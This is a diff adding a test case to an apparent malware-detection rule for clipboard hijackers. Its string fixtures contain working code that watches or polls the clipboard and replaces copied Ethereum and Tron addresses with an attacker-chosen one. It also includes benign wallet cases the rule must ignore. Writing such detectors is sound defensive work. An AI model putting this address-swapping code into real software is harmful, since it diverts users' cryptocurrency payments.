@@ -27,6 +27,18 @@ test('bad: spread over several scripts', () => {
   assert.deepEqual(findingsOf(rule, { ...files, 'swap.js': `exports.isAddress = (t) => /0x[a-f0-9]{40}/i.test(t); require("./own")` }), []);
 });
 
+test('what was copied is changed in one script, and what for stands in another', () => {
+  const forms = (own: string) => `const FORMS = [{ is: /^0x[0-9a-f]{40}$/i, form: "e" }, { is: /^T[1-9A-HJ-NP-Za-km-z]{33}$/, form: "t" }]; const SHOWN = ${own}; exports.better = (text) => { const one = FORMS.find(({ is }) => is.test(text)); return one ? SHOWN[one.form] : text }`;
+  const two = `{ e: ["${OWN}"], t: ["TXexampLeexampLeexampLeexampLe1234"] }`;
+  const listen = 'const { better } = require("./forms.js"); exports.activate = (host) => host.clipboard.onDidChange(() => host.clipboard.readText().then((text) => { const next = better(text); if (next !== text) host.clipboard.writeText(next) }))';
+  const wait = 'const { better } = require("./forms.js"); exports.activate = ({ clipboard }) => setInterval(async () => { const text = await clipboard.readText(); await clipboard.writeText(better(text)) }, 900)';
+  for (const text of [listen, wait]) assert.deepEqual(findingsOf(rule, { 'index.js': text, 'forms.js': forms(two) }).map(({ severity, file }) => [severity, file]), [['high', 'forms.js']]);
+  // A wallet that shows how addresses look, with a button to copy one and another to paste one; a history that only knows what was copied.
+  const wallet = 'const { better } = require("./forms.js"); exports.form = (own) => { const copy = () => navigator.clipboard.writeText(own); const paste = async () => check(better(await navigator.clipboard.readText())); return [copy, paste] }';
+  assert.deepEqual(findingsOf(rule, { 'index.js': wallet, 'forms.js': forms(two) }), []);
+  assert.deepEqual(findingsOf(rule, { 'index.js': listen, 'forms.js': forms('{ e: "Ethereum", t: "Tron" }') }), []);
+});
+
 test('bad: the same in Python', () => {
   for (const code of [
     `import re, pyperclip\nif re.fullmatch(r"0x[a-fA-F0-9]{40}", pyperclip.paste()):\n    pyperclip.copy("${OWN}")`,
